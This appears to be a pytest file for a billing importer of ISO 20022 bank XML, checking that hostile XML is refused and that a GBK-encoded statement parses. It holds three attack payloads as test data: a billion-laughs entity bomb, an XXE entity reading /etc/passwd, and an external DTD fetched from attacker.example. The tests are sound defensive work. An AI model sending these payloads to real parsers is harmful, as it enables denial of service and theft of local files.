"""Hostile XML is refused before anything is expanded or fetched."""

import pytest

from billing.importers import parse
from billing.importers.base import UnreadableFile

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Document><BkToCstmrStmt><Stmt><Ntry><AddtlNtryInf>&lol9;</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<Document><CstmrPmtStsRpt><OrgnlGrpInfAndSts><OrgnlMsgId>&xxe;</OrgnlMsgId></OrgnlGrpInfAndSts>
</CstmrPmtStsRpt></Document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document><BkToCstmrStmt/></Document>"""


@pytest.mark.parametrize("format_name", ["camt053", "camt054", "pain002"])
@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD],
                         ids=["billion-laughs", "external-entity", "external-dtd"])
def test_hostile_xml_is_refused(format_name, document):
    with pytest.raises(UnreadableFile, match="refused: the XML carries a DTD") as refused:
        parse(format_name, document)

    assert "root:" not in str(refused.value)  # nothing of /etc/passwd leaked into the message


def test_gbk_declared_document_is_read():
    document = """<?xml version="1.0" encoding="GBK"?>
<Document><BkToCstmrStmt><Stmt><Acct><Id><Othr><Id>6222020200001234567</Id></Othr></Id><Ccy>CNY</Ccy></Acct>
<Ntry><Amt Ccy="CNY">300.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><ValDt><Dt>2026-11-20</Dt></ValDt>
<NtryRef>ICBC0001</NtryRef><NtryDtls><TxDtls><RltdPties><Dbtr><Nm>张伟</Nm></Dbtr></RltdPties>
<RmtInf><Ustrd>续期保费 保单8860000000000001</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>
</Stmt></BkToCstmrStmt></Document>""".encode("gbk")

    parsed = parse("camt053", document)

    assert parsed.lines[0].payer_name == "张伟"
    assert parsed.lines[0].remittance == "续期保费 保单8860000000000001"
